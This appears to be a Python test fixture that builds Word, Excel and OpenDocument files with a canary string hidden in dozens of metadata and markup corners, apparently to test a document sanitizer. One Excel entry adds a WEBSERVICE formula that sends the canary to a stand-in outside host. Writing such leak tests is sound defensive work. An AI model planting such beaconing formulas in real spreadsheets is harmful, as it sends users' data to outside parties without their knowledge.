# ruff: noqa: E501  # lines of XML are easier to read whole
"""Office files with a canary in one corner each: Word, Excel and OpenDocument."""

import io
import re
import zipfile
from collections.abc import Callable
from xml.sax.saxutils import quoteattr

import docx
import openpyxl
from docx.oxml.ns import qn

from tests.vault import samples

from .canaries import CANARY, NAME, Corner
from .picture_corners import jpeg_with, png_text

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
TOKEN = NAME.replace(" ", "")
VALUE = quoteattr(CANARY)
Parts = dict[str, bytes]
Change = Callable[[Parts], None]


def parts_of(data: bytes) -> Parts:
    with zipfile.ZipFile(io.BytesIO(data)) as found:
        return {name: found.read(name) for name in found.namelist()}


def zipped(parts: Parts, comment: bytes = b"") -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name, data in parts.items():
            new.writestr(name, data)
        new.comment = comment
    return made.getvalue()


def changed(base: Callable[[], bytes], *changes: Change) -> Corner:
    def make() -> bytes:
        parts = parts_of(base())
        for change in changes:
            change(parts)
        return zipped(parts)

    return make


def within(name: str, before: str, added: str) -> Change:
    """Put ``added`` in front of the first ``before`` of a part."""

    def change(parts: Parts) -> None:
        data = parts[name].decode()
        assert before in data, (name, before)
        parts[name] = data.replace(before, added + before, 1).encode()

    return change


def instead(name: str, old: str, new: str) -> Change:
    def change(parts: Parts) -> None:
        assert old in parts[name].decode(), (name, old)
        parts[name] = parts[name].decode().replace(old, new, 1).encode()

    return change


def part(name: str, data: str | bytes) -> Change:
    return lambda parts: parts.__setitem__(name, data.encode() if isinstance(data, str) else data)


def related(source: str, kind: str, target: str, mode: str = "") -> Change:
    """One more relationship of a part; ``source`` is its name, or '' for the whole file."""

    def change(parts: Parts) -> None:
        folder, _, file = source.rpartition("/")
        name = f"{folder}/_rels/{file}.rels".lstrip("/")
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        one = f'<Relationship Id="rIdX" Type="{RELS}/{kind}" Target={quoteattr(target)} {mode}/></Relationships>'
        parts[name] = parts.get(name, empty).replace(b"</Relationships>", one.encode())

    return change


# Word

BODY, END = "word/document.xml", "<w:sectPr"


def letter(picture: bytes | None = None) -> bytes:
    document = docx.Document()
    document.add_heading("A heading", 1)
    document.add_paragraph("The letter itself.")
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "left", "right"
    if picture:
        document.add_picture(io.BytesIO(picture))
    document.core_properties.author = "python-docx"
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def run(inner: str, properties: str = "") -> str:
    return f"<w:p><w:r>{properties and f'<w:rPr>{properties}</w:rPr>'}{inner}</w:r></w:p>"


def in_body(xml: str) -> Corner:
    return changed(letter, within(BODY, END, xml))


def in_settings(xml: str) -> Corner:
    return changed(letter, within("word/settings.xml", "</w:settings>", xml))


def with_part(name: str, data: str | bytes, kind: str, source: str = "word/document.xml") -> Corner:
    target = "/" + name
    return changed(letter, part(name, data), related(source, kind, target))


def own_style() -> bytes:
    document = docx.Document()
    style = document.styles.add_style(NAME, 1)
    document.add_paragraph("The letter itself.", style)
    style.element.find(qn("w:name")).addnext(style.element.makeelement(qn("w:aliases"), {qn("w:val"): CANARY}))
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def field(instruction: str) -> str:
    marks = [f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end")]
    runs = "".join(f"<w:r><w:instrText>{one}</w:instrText></w:r>" for one in instruction.split("|"))
    return f"<w:p>{marks[0]}{runs}{marks[1]}<w:r><w:t>shown</w:t></w:r>{marks[2]}</w:p>"


PICTURE = '<pic:cNvPr id="0"'
VML = (
    '<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office">'
    f'<v:rect id={quoteattr(TOKEN)} alt={VALUE} title={VALUE} style="width:9pt;mso-note:{TOKEN}" o:gfxdata={VALUE}>'
    f"<v:textbox><w:txbxContent>{run('<w:t>in a box</w:t>')}</w:txbxContent></v:textbox></v:rect></w:pict></w:r></w:p>"
)
DOCX: dict[str, Corner] = {
    "core properties": changed(letter, part("docProps/core.xml", f'<c xmlns="urn:x">{CANARY}</c>')),
    "app properties": changed(letter, part("docProps/app.xml", f'<c xmlns="urn:x">{CANARY}</c>')),
    "custom properties": changed(letter, part("docProps/custom.xml", f'<c xmlns="urn:x">{CANARY}</c>'),
                                 related("", "custom-properties", "docProps/custom.xml")),
    "custom xml": with_part("customXml/item7.xml", f'<c xmlns="urn:x">{CANARY}</c>', "customXml"),
    "variables": in_settings(f'<w:docVars><w:docVar w:name={VALUE} w:val={VALUE}/></w:docVars>'),
    "mail merge": in_settings(f'<w:mailMerge><w:query w:val={VALUE}/><w:dataSource/></w:mailMerge>'),
    "protection": in_settings(f'<w:writeProtection w:hash={VALUE}/>'),
    "unknown setting": in_settings(f'<w:note w:val={VALUE}/>'), "comment in xml": in_body(f"<!-- {CANARY} -->"),
    "instruction in xml": in_body(f"<?app {CANARY}?>"),
    "editing marks": in_body(f'<w:p w:rsidR="00AA11" w:rsidNote={VALUE}/>'),
    "author under another prefix": in_body(f'<x:p xmlns:x="{W}" x:author={VALUE} x:note={VALUE}/>'),
    "own element": in_body(f'<n:note xmlns:n="urn:canary"><n:b n:c={VALUE}>{CANARY}</n:b></n:note>'),
    "own attribute": in_body(f'<w:p xmlns:n="urn:canary" n:who={VALUE}/>'),
    "name of a namespace": in_body(f'<w:p xmlns:n="urn:{TOKEN}"/>'),
    "text outside runs": in_body(f"<w:p>{CANARY}</w:p>"),
    "hidden text": in_body(run(f"<w:t>{CANARY}</w:t>", "<w:vanish/>")),
    "text in a hidden style": changed(letter, within("word/styles.xml", "</w:styles>",
    '<w:style w:type="character" w:styleId="Hid">'
        '<w:name w:val="Hid"/><w:rPr><w:vanish/></w:rPr></w:style>'), within(BODY, END, run(f"<w:t>{CANARY}</w:t>",
        '<w:rStyle w:val="Hid"/>'))),
    "content control": in_body(f'<w:sdt><w:sdtPr><w:alias w:val={VALUE}/><w:tag w:val={VALUE}/><w:placeholder><w:docPart w:val={VALUE}/>'
                               f'</w:placeholder></w:sdtPr><w:sdtContent>{run("<w:t>kept</w:t>")}</w:sdtContent></w:sdt>'),
    "smart tag": in_body(f'<w:p><w:smartTag w:uri={VALUE} w:element="x"><w:smartTagPr><w:attr w:name="n" w:val={VALUE}/></w:smartTagPr>'
                         '<w:r><w:t>kept</w:t></w:r></w:smartTag></w:p>'),
    "bookmark": in_body(f'<w:p><w:bookmarkStart w:id="9" w:name={VALUE}/><w:bookmarkEnd w:id="9"/></w:p>'),
    "permission": in_body(f'<w:p><w:permStart w:id="9" w:ed={VALUE}/><w:permEnd w:id="9"/></w:p>'),
    "form field": in_body(f'<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val={VALUE}/><w:helpText w:val={VALUE}/>'
                          '</w:ffData></w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
    "instruction of a field": in_body(field(f"AUTHOR {CANARY}")), "entry of an index": in_body(field(f'XE "{CANARY}"')),
    "instruction in pieces": in_body(field("TC \"Hanako| Canary\"")),
    "switch of a field": in_body(field(f'PAGE \\* "{CANARY}"')),
    "simple field": in_body(f'<w:p><w:fldSimple w:instr="DOCPROPERTY {CANARY}"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'),
    "tip of a link": in_body(f'<w:p><w:hyperlink w:tooltip={VALUE} w:docLocation={VALUE} w:anchor={VALUE}><w:r><w:t>l</w:t></w:r></w:hyperlink></w:p>'),
    "name of a picture": changed(lambda: letter(samples.picture("PNG")), instead(BODY, PICTURE,
    f'<pic:cNvPr descr={VALUE} title={VALUE} id="0"')),
    "picture": lambda: letter(jpeg_with("exif")), "picture with text": lambda: letter(png_text()),
    "file name of a picture": changed(lambda: letter(samples.picture("PNG")),
        lambda parts: parts.__setitem__(f"word/media/{TOKEN}.png", parts.pop("word/media/image1.png")),
        instead("word/_rels/document.xml.rels", "media/image1.png", f"media/{TOKEN}.png")),
    "picture nobody shows": with_part("word/media/extra.jpg", jpeg_with("comment"), "image"),
    "drawing of old": in_body(VML), "own style": own_style, "style of a list": changed(letter,
    within("word/styles.xml", "<w:style ",
        f'<w:latentStyles><w:lsdException w:name={VALUE}/></w:latentStyles>')),
    "font table": changed(letter, part("word/fontTable.xml",
    f'<w:fonts xmlns:w="{W}"><w:font w:name={VALUE}/></w:fonts>')),
    "web settings": with_part("word/webSettings.xml",
    f'<w:webSettings xmlns:w="{W}"><w:x w:val={VALUE}/></w:webSettings>', "webSettings"),
    "people": with_part("word/people.xml", f'<p xmlns="urn:x" author={VALUE}/>', "people"),
    "glossary": with_part("word/glossary/document.xml",
    f'<w:glossaryDocument xmlns:w="{W}">{CANARY}</w:glossaryDocument>', "glossaryDocument"),
    "printer": with_part("word/printerSettings1.bin", b"\0" + CANARY.encode("utf-16-le"), "printerSettings"),
    "thumbnail": changed(letter, part("docProps/thumbnail.jpeg", jpeg_with("exif"))), "signature": changed(
        letter, part("_xmlsignatures/sig1.xml", f"<s>{CANARY}</s>"), related("", "digital-signature/origin",
        "_xmlsignatures/sig1.xml")),
    "part that nothing leads to": changed(letter, part("word/notes.txt", CANARY)), "id of a relationship": changed(
        letter, lambda parts: parts.__setitem__("word/_rels/document.xml.rels",
            parts["word/_rels/document.xml.rels"].replace(b'Id="rId1"', f'Id="{TOKEN}"'.encode()))),
    "theme": changed(letter, lambda parts: parts.__setitem__("word/theme/theme1.xml",
        parts["word/theme/theme1.xml"].replace(b'name="Office', f'name="{NAME}'.encode()))),
    "content types": changed(letter, within("[Content_Types].xml", "</Types>",
    f'<Override PartName="/x/{TOKEN}.xml" ContentType="a/b"/>')),
    "comment of the zip": lambda: zipped(parts_of(letter()), CANARY.encode()),
    "link to a disk": changed(letter, related("word/document.xml", "hyperlink", f"file:///C:/Users/{NAME}/a",
    'TargetMode="External"'),
        within(BODY, END,
        f'<w:p><w:hyperlink r:id="rIdX" xmlns:r="{RELS}"><w:r><w:t>l</w:t></w:r></w:hyperlink></w:p>')),
    "extension list": changed(lambda: letter(samples.picture("PNG")), instead(BODY,
    "<a:stretch>",
        f'<a:extLst xmlns:a="urn:x"><a:ext uri={VALUE}/></a:extLst><a:stretch>')),
    "two forms of a drawing": in_body('<w:p><w:r><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006">'
        f'<mc:Choice Requires="n" xmlns:n="urn:x"><n:x>{CANARY}</n:x></mc:Choice><mc:Fallback><w:t>kept</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>'),
}  # fmt: skip

# Excel

SHEET, BOOK = "xl/worksheets/sheet1.xml", "xl/workbook.xml"
STRINGS = "xl/sharedStrings.xml"


def table() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["year", "executions"])
    sheet.append([2024, 1])
    sheet["B3"] = "=SUM(B2:B2)"
    made = io.BytesIO()
    book.save(made)
    return with_shared_strings(made.getvalue())


def with_shared_strings(book: bytes) -> bytes:
    """The words of the cells in a part of their own, as Excel writes them."""
    parts = parts_of(book)
    words = re.findall(r'"inlineStr"><is>(<t>[^<]*</t>)</is>', parts[SHEET].decode())
    for number, word in enumerate(words):
        instead(SHEET, f'"inlineStr"><is>{word}</is>', f'"s"><v>{number}</v>')(parts)
    strings = "".join(f"<si>{word}</si>" for word in words)
    part(STRINGS, f'<sst xmlns="{S}">{strings}</sst>')(parts)
    related(BOOK, "sharedStrings", "/" + STRINGS)(parts)
    content = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
    within("[Content_Types].xml", "</Types>", f'<Override PartName="/{STRINGS}" ContentType="{content}"/>')(parts)
    return zipped(parts)


def in_sheet(xml: str) -> Corner:
    return changed(table, within(SHEET, "</worksheet>", xml))


def in_book(xml: str) -> Corner:
    return changed(table, within(BOOK, "</workbook>", xml))


def sheet_part(name: str, data: str | bytes, kind: str, source: str = SHEET) -> Corner:
    return changed(table, part(name, data), related(source, kind, "/" + name))


XLSX: dict[str, Corner] = {
    "core properties": changed(table, part("docProps/core.xml", f'<c xmlns="urn:x">{CANARY}</c>')),
    "app properties": changed(table, part("docProps/app.xml", f'<c xmlns="urn:x">{CANARY}</c>')),
    "deleted string": changed(table, within(STRINGS, "</sst>", f"<si><t>{CANARY}</t></si>")),
    "last user": in_book(f"<fileSharing userName={VALUE}/>"),
    "name of a range": in_book(f"<definedNames><definedName name={quoteattr(TOKEN)} comment={VALUE}>Sheet!$A$1</definedName></definedNames>"),
    "views of users": in_book(f"<customWorkbookViews><customWorkbookView name={VALUE}/></customWorkbookViews>"),
    "extension": in_book(f"<extLst><ext uri={VALUE}>{CANARY}</ext></extLst>"),
    "path of the file": in_book(f'<x:absPath xmlns:x="urn:x" url={VALUE}/>'), "code name": changed(
        table, instead(BOOK, "<workbookPr", f"<workbookPr codeName={VALUE}")),
        "comment in xml": in_sheet(f"<!-- {CANARY} -->"),
    "scenario": in_sheet(f"<scenarios><scenario name={VALUE} user={VALUE} comment={VALUE}/></scenarios>"),
    "prompt": in_sheet(f'<dataValidations><dataValidation sqref="A1" promptTitle={VALUE} prompt={VALUE} error={VALUE}/></dataValidations>'),
    "tip of a link": in_sheet(f'<hyperlinks><hyperlink ref="A1" location="Sheet!A1" tooltip={VALUE} display={VALUE}/></hyperlinks>'),
    "protected range": in_sheet(f"<protectedRanges><protectedRange name={VALUE}/></protectedRanges>"),
    "properties of a sheet": in_sheet(f"<customProperties><customPr name={VALUE}/></customProperties>"),
    "own element": in_sheet(f'<n:note xmlns:n="urn:canary">{CANARY}</n:note>'), "reading of a name": changed(
        table, within(STRINGS, "</si>", f"<rPh><t>{CANARY}</t></rPh>")),
    "formula that asks": changed(table, within(SHEET, "</sheetData>",
        f'<row r="9"><c r="A9"><f>WEBSERVICE("http://x.example/?{CANARY}")</f><v>1</v></c></row>')),
    "printer": sheet_part("xl/printerSettings/printerSettings1.bin", CANARY.encode("utf-16-le"), "printerSettings"),
    "pivot cache": sheet_part("xl/pivotCache/pivotCacheDefinition1.xml", f'<p xmlns="urn:x" refreshedBy={VALUE}/>',
    "pivotCacheDefinition", BOOK),
    "connections": sheet_part("xl/connections.xml", f'<c xmlns="urn:x" connection={VALUE}/>', "connections", BOOK),
    "query": sheet_part("xl/queryTables/queryTable1.xml", f'<q xmlns="urn:x" name={VALUE}/>', "queryTable"),
    "persons": sheet_part("xl/persons/person.xml", f'<p xmlns="urn:x" displayName={VALUE}/>', "person", BOOK),
    "custom xml": sheet_part("customXml/item1.xml", f'<p xmlns="urn:x">{CANARY}</p>', "customXml", BOOK),
    "order of calculation": sheet_part("xl/calcChain.xml", f'<c xmlns="{S}"><c r={VALUE}/></c>', "calcChain", BOOK),
    "own style": changed(table, instead("xl/styles.xml", 'name="Normal"', f"name={VALUE}")),
    "theme": changed(table, lambda parts: parts.__setitem__("xl/theme/theme1.xml",
        parts["xl/theme/theme1.xml"].replace(b'name="Office', f'name="{NAME}'.encode()))),
    "part that nothing leads to": changed(table, part("xl/notes.txt", CANARY)),
    "comment of the zip": lambda: zipped(parts_of(table()), CANARY.encode()),
}  # fmt: skip

# OpenDocument


def odf(change: Change) -> Corner:
    return changed(samples.odt, change)


def in_text(xml: str) -> Corner:
    return odf(within("content.xml", "</office:text>", xml))


NS = (
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:'
    'svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
)
FRAME = f'<text:p><draw:frame {NS} draw:name={VALUE}><draw:image xlink:href="Pictures/{TOKEN}.jpg"/><svg:title>{CANARY}</svg:title><svg:desc>{CANARY}</svg:desc></draw:frame></text:p>'
ODT: dict[str, Corner] = {
    "meta": odf(part("meta.xml", f"<m>{CANARY}</m>")), "settings": odf(part("settings.xml", f"<s>{CANARY}</s>")),
    "signature": odf(part("META-INF/documentsignatures.xml", f"<s>{CANARY}</s>")), "rdf": odf(part("manifest.rdf",
    f"<s>{CANARY}</s>")),
    "thumbnail": odf(part("Thumbnails/thumbnail.png", png_text())), "menus": odf(part("Configurations2/menu.xml",
    f"<s>{CANARY}</s>")),
    "layout cache": odf(part("layout-cache", CANARY)), "comment in xml": in_text(f"<!-- {CANARY} -->"),
    "variables": in_text(f'<text:user-field-decls><text:user-field-decl office:string-value={VALUE} text:name={VALUE}/></text:user-field-decls>'),
    "section": in_text(f'<text:section text:name={VALUE}><text:p>kept</text:p></text:section>'),
    "hidden section": in_text(f'<text:section text:display="none"><text:p>{CANARY}</text:p></text:section>'),
    "hidden text": in_text(f'<text:p><text:hidden-text text:string-value={VALUE} text:condition="x">{CANARY}</text:hidden-text></text:p>'),
    "bookmark": in_text(f"<text:p><text:bookmark text:name={VALUE}/></text:p>"),
    "reference": in_text(f"<text:p><text:reference-mark text:name={VALUE}/></text:p>"),
    "own element": in_text(f'<n:note xmlns:n="urn:canary">{CANARY}</n:note>'),
    "own attribute": in_text(f'<text:p xmlns:n="urn:canary" n:who={VALUE}/>'),
    "identity": in_text(f"<text:p xml:id={quoteattr(TOKEN)}/>"),
    "own style": odf(within("content.xml", "<office:body>",
    f'<office:automatic-styles><style:style {NS} style:name={quoteattr(TOKEN)} '
                     f"style:display-name={VALUE}/></office:automatic-styles>")),
    "script": odf(within("content.xml", "<office:body>",
    f"<office:scripts><office:script>{CANARY}</office:script></office:scripts>")),
    "form": in_text(f"<office:forms><form xmlns='urn:x'>{CANARY}</form></office:forms>"),
    "link to a disk": in_text(f'<text:p><text:a {NS} xlink:href="file:///home/{TOKEN}/a" xlink:title={VALUE} office:name={VALUE}>l</text:a></text:p>'),
    "picture": changed(samples.odt, part(f"Pictures/{TOKEN}.jpg", jpeg_with("exif")), within("content.xml",
    "</office:text>", FRAME)),
    "picture within": in_text(f'<text:p><draw:frame {NS}><draw:image><office:binary-data>{CANARY}</office:binary-data></draw:image></draw:frame></text:p>'),
    "text outside paragraphs": in_text(CANARY), "part that nothing leads to": odf(part("notes.txt", CANARY)),
    "title of a table": in_text(f'<table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" table:name={VALUE}><table:title>{CANARY}'
                                "</table:title></table:table>"),
}  # fmt: skip
